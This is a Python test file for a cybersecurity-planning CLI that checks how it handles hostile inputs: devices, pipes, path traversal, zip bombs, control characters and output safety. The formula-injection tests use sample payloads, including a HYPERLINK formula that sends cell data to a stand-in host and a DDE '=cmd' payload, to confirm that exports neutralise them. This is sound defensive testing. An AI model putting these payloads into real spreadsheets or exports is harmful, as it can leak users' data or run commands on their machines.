"""Hostile and careless inputs, one test (or a few) per class of attack (issue 16). Each ends with
the right exit status, no traceback, a message naming the offending item, and the previous -o
file untouched. Interruptions are in test_interrupts.py; the plain bad-input corpus is in
tests/data/bad/ (test_bad_input.py)."""
from __future__ import annotations

import io
import os
import shutil
import time
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from cyberplan.cli import cli

HERE = Path(__file__).resolve().parent
MINI = HERE / "data" / "mini"
OLD = "previous output: must survive\n"


def run(args: list[str], cwd: Path, output: bool = True):
    """The CLI with `-o out.json` pointing at an existing file; returns (result, text) after
    checking the promises every failure keeps: no traceback, the old file as it was."""
    if output:
        (cwd / "out.json").write_text(OLD)
        args = [*args, "-o", "out.json"]
    old = os.getcwd()
    os.chdir(cwd)
    try:
        result = CliRunner().invoke(cli, args, catch_exceptions=True)
    finally:
        os.chdir(old)
    text = result.stderr + result.stdout
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        import traceback
        pytest.fail("unhandled exception (a traceback for the user):\n" + "".join(
            traceback.format_exception(result.exception)))
    assert "Traceback" not in text
    if output and result.exit_code != 0:
        assert (cwd / "out.json").read_text() == OLD, "the -o file was overwritten"
    return result, text


@pytest.fixture
def mini(tmp_path) -> Path:
    """A folder with the mini framework, ruleset, answers and plan, as a user would have it."""
    folder = tmp_path / "work"
    shutil.copytree(MINI, folder)
    return folder


# --------------------------------------------------------------------------- files that are not files

@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom", "/dev/null"])
def test_answers_symlinked_to_a_device(mini, device):
    (mini / "answers.yaml").unlink()
    (mini / "answers.yaml").symlink_to(device)
    started = time.monotonic()
    r, text = run(["assess", "answers.yaml"], mini)
    assert r.exit_code == 2 and "answers.yaml" in text and "character device" in text
    assert time.monotonic() - started < 5


def test_config_is_a_device(mini):
    r, text = run(["plan", "answers.yaml", "--config", "/dev/urandom"], mini)
    assert r.exit_code == 2 and "/dev/urandom" in text and "not a regular file" in text


def test_framework_reference_to_a_device(mini):
    (mini / "answers.yaml").write_text((MINI / "answers.yaml").read_text().replace(
        "framework: framework.yaml", "framework: /dev/zero"))
    r, text = run(["assess", "answers.yaml"], mini)
    assert r.exit_code == 2 and "/dev/zero" in text and "outside the answers file's folder" in text
    r, text = run(["assess", "answers.yaml", "--allow-outside-paths"], mini)
    assert r.exit_code == 2 and "/dev/zero" in text and "character device" in text


@pytest.mark.parametrize("which", ["answers", "config", "framework"])
def test_fifo_never_hangs(mini, which):
    fifo = mini / "pipe.yaml"
    os.mkfifo(fifo)
    args = {"answers": ["assess", "pipe.yaml"],
            "config": ["plan", "answers.yaml", "--config", "pipe.yaml"],
            "framework": ["assess", "answers.yaml", "--framework", "pipe.yaml"]}[which]
    started = time.monotonic()
    r, text = run(args, mini)
    assert r.exit_code == 2 and "pipe.yaml" in text and "named pipe" in text
    assert time.monotonic() - started < 5


def test_bytes_read_are_counted_not_the_size_claimed(mini, monkeypatch):
    """/proc files say they are 0 bytes long and hold more: the limit counts what is read."""
    import cyberplan.engine.inputs.read as read
    monkeypatch.setattr(read, "MAX_FILE_BYTES", 200)
    maps = Path("/proc/self/maps")
    assert maps.stat().st_size == 0 and len(maps.read_bytes()) > 200
    (mini / "answers.yaml").unlink()
    (mini / "answers.yaml").symlink_to(maps)
    r, text = run(["assess", "answers.yaml"], mini)
    assert r.exit_code == 2 and "answers.yaml" in text and "more than 200 bytes" in text


def test_directory_given_as_a_file(mini):
    r, text = run(["plan", "answers.yaml", "--config", "."], mini)
    assert r.exit_code == 2 and "directory" in text


# --------------------------------------------------------------------------- references leaving the folder

SECRET = "hunter2-password"


@pytest.fixture
def outside(tmp_path) -> Path:
    """A file beside the user's folder holding a secret, shaped so a framework loader would
    quote it in an error."""
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "creds.yaml").write_text(f"user: admin\npassword: {SECRET}\n")
    return secret / "creds.yaml"


@pytest.mark.parametrize("key", ["framework", "ruleset"])
@pytest.mark.parametrize("how", ["dotdot", "absolute", "symlink"])
def test_references_stay_in_the_answers_folder(mini, outside, key, how):
    if how == "symlink":
        (mini / "innocent.yaml").symlink_to(outside)
        ref = "innocent.yaml"
    else:
        ref = "../secret/creds.yaml" if how == "dotdot" else str(outside)
    (mini / "answers.yaml").write_text((MINI / "answers.yaml").read_text().replace(
        f"{key}: {key}.yaml", f"{key}: {ref}"))
    r, text = run(["assess", "answers.yaml"], mini)
    assert r.exit_code == 2
    assert "outside the answers file's folder" in text and f"at {key}" in text and ref in text
    assert SECRET not in text and "--allow-outside-paths" in text
    # asked for explicitly, it is read (and is no framework or ruleset)
    r, text = run(["assess", "answers.yaml", "--allow-outside-paths"], mini)
    assert r.exit_code == 2 and (ref if how == "symlink" else "creds.yaml") in text and "outside" not in text


def test_extends_stays_in_the_answers_folder(mini, outside):
    (mini / "ruleset.yaml").write_text((MINI / "ruleset.yaml").read_text().replace(
        "framework: mini\n", "framework: mini\nextends: ../secret/creds.yaml\n"))
    r, text = run(["assess", "answers.yaml"], mini)
    assert r.exit_code == 2 and "outside the answers file's folder" in text and SECRET not in text


def test_references_inside_the_folder_and_options_still_work(mini, outside, tmp_path):
    sub = mini / "content"
    sub.mkdir()
    shutil.move(mini / "framework.yaml", sub / "framework.yaml")
    (mini / "answers.yaml").write_text((MINI / "answers.yaml").read_text().replace(
        "framework: framework.yaml", "framework: content/../content/framework.yaml"))
    r, _ = run(["assess", "answers.yaml", "--format", "json"], mini, output=False)
    assert r.exit_code == 0, r.stderr
    # an option names a file the user chose: no containment
    elsewhere = tmp_path / "elsewhere"
    shutil.copytree(sub, elsewhere)
    r, _ = run(["assess", "answers.yaml", "--framework", str(elsewhere / "framework.yaml"), "--format", "json"],
               mini, output=False)
    assert r.exit_code == 0, r.stderr


def test_installed_framework_by_path_is_allowed(mini):
    import cyberplan.frameworks as pkg
    installed = Path(pkg.__file__).parent / "nist-csf-2.0"
    (mini / "answers.yaml").write_text(f"framework: {installed}\nentities:\n  - id: e\n")
    r, text = run(["assess", "answers.yaml", "--format", "json"], mini, output=False)
    assert r.exit_code == 0, text


# --------------------------------------------------------------------------- size guards that count what matters

def test_one_long_text_aliased_hundreds_of_times(mini):
    """Not a billion laughs (few nodes), but 300 copies of a 1 MB text: refused by total size."""
    big = "x" * 1_000_000
    aliases = ", ".join(["*t"] * 300)
    (mini / "answers.yaml").write_text(
        f"framework: framework.yaml\ntitle: &t {big}\nentities:\n  - id: e\n    attributes: {{a: [{aliases}]}}\n")
    started = time.monotonic()
    r, text = run(["assess", "answers.yaml"], mini)
    assert r.exit_code == 2 and "answers.yaml:" in text and "aliases" in text
    assert time.monotonic() - started < 10


def _xlsx(rows: int, sheet_xml: str | None = None) -> bytes:
    """A minimal workbook, written part by part: one sheet of `rows` rows and no size record
    (what a hostile or a streaming writer leaves out)."""
    body = sheet_xml or "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(1, rows + 1))
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'),
        "_rels/.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets>'
                            '<sheet name="big" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        "xl/_rels/workbook.xml.rels": (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{body}</sheetData></worksheet>',
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in parts.items():
            z.writestr(name, text)
    return buf.getvalue()


def test_xlsx_with_a_million_rows_is_refused_fast(mini):
    (mini / "answers.xlsx").write_bytes(_xlsx(1_000_000))
    assert (mini / "answers.xlsx").stat().st_size < 10_000_000
    started = time.monotonic()
    r, text = run(["assess", "answers.xlsx", "--framework", "framework.yaml"], mini)
    assert r.exit_code == 2 and "answers.xlsx" in text and "sheet" in text and "limit" in text
    assert time.monotonic() - started < 5


def test_xlsx_rows_are_capped_per_sheet(mini, monkeypatch):
    import cyberplan.engine.inputs.workbook as workbook
    monkeypatch.setattr(workbook, "MAX_SHEET_ROWS", 50)
    (mini / "answers.xlsx").write_bytes(_xlsx(51))
    r, text = run(["assess", "answers.xlsx", "--framework", "framework.yaml"], mini)
    assert r.exit_code == 2 and "sheet 'big' has more than 50 rows" in text


def test_xlsx_zip_bomb_is_refused_by_its_uncompressed_size(mini, monkeypatch):
    import cyberplan.engine.inputs.workbook as workbook
    monkeypatch.setattr(workbook, "MAX_WORKBOOK_BYTES", 100_000)
    cells = '<row r="1"><c r="A1" t="inlineStr"><is><t>' + "A" * 200_000 + "</t></is></c></row>"
    data = _xlsx(0, sheet_xml=cells)
    (mini / "answers.xlsx").write_bytes(data)
    assert len(data) < 10_000
    r, text = run(["assess", "answers.xlsx", "--framework", "framework.yaml"], mini)
    assert r.exit_code == 2 and "expands to" in text and "limit" in text


def test_xlsx_formula_without_a_saved_value(mini):
    """openpyxl (like any program that does not calculate) saves a formula without its value:
    that answer must not silently read as "not assessed"."""
    import openpyxl

    from cyberplan.engine.inputs.read import load_framework
    from cyberplan.engine.render.xlsx import questionnaire_workbook
    fw = load_framework(mini / "framework.yaml")
    path = mini / "answers.xlsx"
    path.write_bytes(questionnaire_workbook(fw, ["mof"], "mini/default"))
    wb = openpyxl.load_workbook(path)
    ws = wb["mof"]
    row = next(r for r in range(1, ws.max_row + 1) if ws.cell(row=r, column=1).value == "PR-2.q2")
    ws.cell(row=row, column=7).value = "=2+1"
    wb.save(path)
    r, text = run(["assess", "answers.xlsx", "--framework", "framework.yaml", "--ruleset", "ruleset.yaml"], mini)
    assert r.exit_code == 2 and f"sheet 'mof' cell G{row}" in text and "formula" in text


# --------------------------------------------------------------------------- spreadsheet formula injection

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
            "\tx=1", "\rx=1"]


def _csv_cells(text: str) -> list[str]:
    import csv
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _hostile_answers(folder: Path) -> None:
    import json
    entities = [{"id": f"e{i}", "name": p, "sector": p} for i, p in enumerate(PAYLOADS)]
    entities.append({"id": "=HYPERLINK(\"http://evil\")", "name": "ok"})
    (folder / "answers.json").write_text(json.dumps({"framework": "framework.yaml", "ruleset": "ruleset.yaml",
                                                     "entities": entities}))


def _formula_start(s: str) -> bool:
    return s.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_exports_neutralise_formulas(mini):
    _hostile_answers(mini)
    r, _ = run(["assess", "answers.json", "--format", "csv"], mini, output=False)
    assert r.exit_code == 0, r.stderr
    cells = _csv_cells(r.stdout)
    for p in PAYLOADS:
        assert "'" + p.replace("\r", "\n") in cells, p   # written, with the apostrophe that makes it text
    assert not any(_formula_start(c) for c in cells), [c for c in cells if _formula_start(c)]


def test_questionnaire_csv_neutralises_and_reads_back(mini):
    ids = ["=cmd|' /C calc'!A0", "-neg", "@at", "plain"]
    r, _ = run(["questionnaire", "framework.yaml", "--format", "csv", "--entities", ",".join(ids), "-o", "q.csv"],
               mini, output=False)
    assert r.exit_code == 0, r.stderr
    text = (mini / "q.csv").read_text()
    assert not any(_formula_start(c) for c in _csv_cells(text))
    # filled in and read back, the ids are the ones asked for
    import csv
    rows = list(csv.reader(io.StringIO(text)))
    body = [row for row in rows[1:] if row[1] == "PR-2.q1"]
    for row in body:
        row[2] = "true"
    filled = io.StringIO()
    csv.writer(filled, lineterminator="\n").writerows([rows[0]] + body)
    (mini / "filled.csv").write_text(filled.getvalue())
    r, _ = run(["assess", "filled.csv", "--framework", "framework.yaml", "--ruleset", "ruleset.yaml", "--format",
                "json"], mini, output=False)
    assert r.exit_code == 0, r.stderr
    import json
    assert [e["id"] for e in json.loads(r.stdout)["entities"]] == ids


def test_xlsx_exports_hold_no_formula(mini):
    import openpyxl
    _hostile_answers(mini)
    r, _ = run(["assess", "answers.json", "--format", "xlsx", "-o", "t.xlsx"], mini, output=False)
    assert r.exit_code == 0, r.stderr
    ids = ["=cmd|' /C calc'!A0", "+plus"]
    r, _ = run(["questionnaire", "framework.yaml", "--format", "xlsx", "--entities", ",".join(ids), "-o", "q.xlsx"],
               mini, output=False)
    assert r.exit_code == 0, r.stderr
    seen = set()
    for name in ("t.xlsx", "q.xlsx"):
        wb = openpyxl.load_workbook(mini / name)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and _formula_start(cell.value):
                        assert cell.quotePrefix, (name, ws.title, cell.coordinate)
                        seen.add(cell.value)
        # and no formula element anywhere in the sheets' XML
        with zipfile.ZipFile(mini / name) as z:
            assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if "worksheets" in n)
    # (XML reads a carriage return back as a newline: that payload no longer starts like a formula)
    assert {p for p in PAYLOADS if not p.startswith("\r")} <= seen and set(ids) <= seen
    # the questionnaire reads back with the ids it was written for
    from cyberplan.engine.inputs.workbook import read_answers_workbook
    doc = read_answers_workbook(mini / "q.xlsx")
    assert [e["id"] for e in doc.data["entities"]] == ids


# --------------------------------------------------------------------------- outputs people can share

def test_output_respects_the_umask(mini):
    old = os.umask(0o022)
    try:
        r, _ = run(["assess", "answers.yaml", "--format", "json", "-o", "new.json"], mini, output=False)
    finally:
        os.umask(old)
    assert r.exit_code == 0 and (mini / "new.json").stat().st_mode & 0o777 == 0o644
    (mini / "shared.json").write_text("x")
    (mini / "shared.json").chmod(0o664)
    r, _ = run(["assess", "answers.yaml", "--format", "json", "-o", "shared.json"], mini, output=False)
    assert (mini / "shared.json").stat().st_mode & 0o777 == 0o664   # a replaced file keeps its mode


def test_output_through_a_symlink_writes_its_target(mini):
    (mini / "real.json").write_text(OLD)
    (mini / "link.json").symlink_to("real.json")
    r, _ = run(["assess", "answers.yaml", "--format", "json", "-o", "link.json"], mini, output=False)
    assert r.exit_code == 0, r.stderr
    assert (mini / "link.json").is_symlink() and (mini / "real.json").read_text().startswith("{")


@pytest.mark.parametrize("target", ["answers.yaml", "framework.yaml", "ruleset.yaml", "alias.yaml"])
def test_output_onto_an_input_is_refused(mini, target):
    (mini / "alias.yaml").symlink_to("answers.yaml")
    before = {p.name: p.read_bytes() for p in mini.iterdir() if p.is_file()}
    r, text = run(["assess", "answers.yaml", "--format", "json", "-o", target], mini, output=False)
    assert r.exit_code == 2 and target in text and "input files" in text
    assert {p.name: p.read_bytes() for p in mini.iterdir() if p.is_file()} == before


# --------------------------------------------------------------------------- long work is never silent

def test_heartbeat_speaks_while_a_step_runs():
    from cyberplan.engine.progress import heartbeat
    said: list[str] = []
    with heartbeat(said.append, "building the model", every=0.05):
        time.sleep(0.3)
    n = len(said)
    time.sleep(0.15)
    assert n >= 3 and len(said) == n          # it speaks while the step runs, and stops after
    assert all(s.startswith("building the model: still working (") for s in said)


def test_plan_and_monte_carlo_report_progress(mini):
    threats = str(HERE / "data" / "threats" / "mini.yaml")
    r, _ = run(["plan", "answers.yaml", "--config", "plan.yaml", "--threats", threats,
                "--uncertainty", "--draws", "2000", "--format", "json"], mini, output=False)
    assert r.exit_code == 0, r.stderr
    for step in ("finding a starting plan", "building the model", "solving with highs",
                 "uncertainty: drawing 2,000 Monte Carlo samples", "Monte Carlo 1,000 of 2,000 draws",
                 "Monte Carlo 2,000 of 2,000 draws"):
        assert step in r.stderr, (step, r.stderr)


@pytest.mark.skipif(os.geteuid() != 0, reason="making a device node needs root (and root is who could break one)")
def test_output_to_a_device_never_replaces_it(mini):
    """As root a rename over /dev/null would replace the device with a file: a device is written
    to, never renamed over."""
    import stat
    node = mini / "null"
    os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    r, _ = run(["assess", "answers.yaml", "--format", "json", "-o", "null"], mini, output=False)
    assert r.exit_code == 0, r.stderr
    assert stat.S_ISCHR(node.stat().st_mode) and node.stat().st_rdev == os.makedev(1, 3)


def test_output_to_a_full_device_says_so():
    r, text = run(["assess", str(MINI / "answers.yaml"), "-o", "/dev/full"], MINI, output=False)
    assert r.exit_code == 2 and "/dev/full" in text and "No space left" in text


def test_output_to_a_pipe(mini):
    import threading
    os.mkfifo(mini / "pipe")
    started = time.monotonic()
    r, text = run(["assess", "answers.yaml", "--format", "json", "-o", "pipe"], mini, output=False)
    assert r.exit_code == 2 and "no program is reading" in text and time.monotonic() - started < 5
    got = []
    reader = threading.Thread(target=lambda: got.append((mini / "pipe").read_bytes()))
    reader.start()
    time.sleep(0.2)
    r, _ = run(["assess", "answers.yaml", "--format", "json", "-o", "pipe"], mini, output=False)
    reader.join(10)
    assert r.exit_code == 0 and got and got[0].startswith(b"{")


# --------------------------------------------------------------------------- the terminal shows data, never runs it

def test_terminal_table_shows_markup_and_escapes_as_text():
    from rich.console import Console

    from cyberplan.engine.render import Output, Table
    from cyberplan.engine.render.terminal import print_rich
    buf = io.StringIO()
    console = Console(file=buf, force_terminal=True, width=120)
    rows = [["[/]", "2"], ["[link=file:///etc/passwd]x[/link]", "1"], ["clear\x1b[2Jscreen", "0"]]
    print_rich(Output("x", {}, [Table("t", ["name", "level"], rows, styles={"level": "level"})],
                      notes=["[/] a note"]), console)
    shown = buf.getvalue()
    assert "[/]" in shown and "[link=file:///etc/passwd]x[/link]" in shown and "[/] a note" in shown
    assert "\x1b[2J" not in shown and "\\x1b[2J" in shown
    assert "\x1b]8;" not in shown            # no terminal hyperlink was made


def test_error_messages_escape_control_characters(mini):
    name = "answers\x1b[2J.yaml"
    (mini / name).write_text("framework: framework.yaml\nentities: []\n")
    r, text = run(["assess", name], mini, output=False)
    assert r.exit_code == 2 and "\x1b" not in r.stderr and "answers\\x1b[2J.yaml" in r.stderr
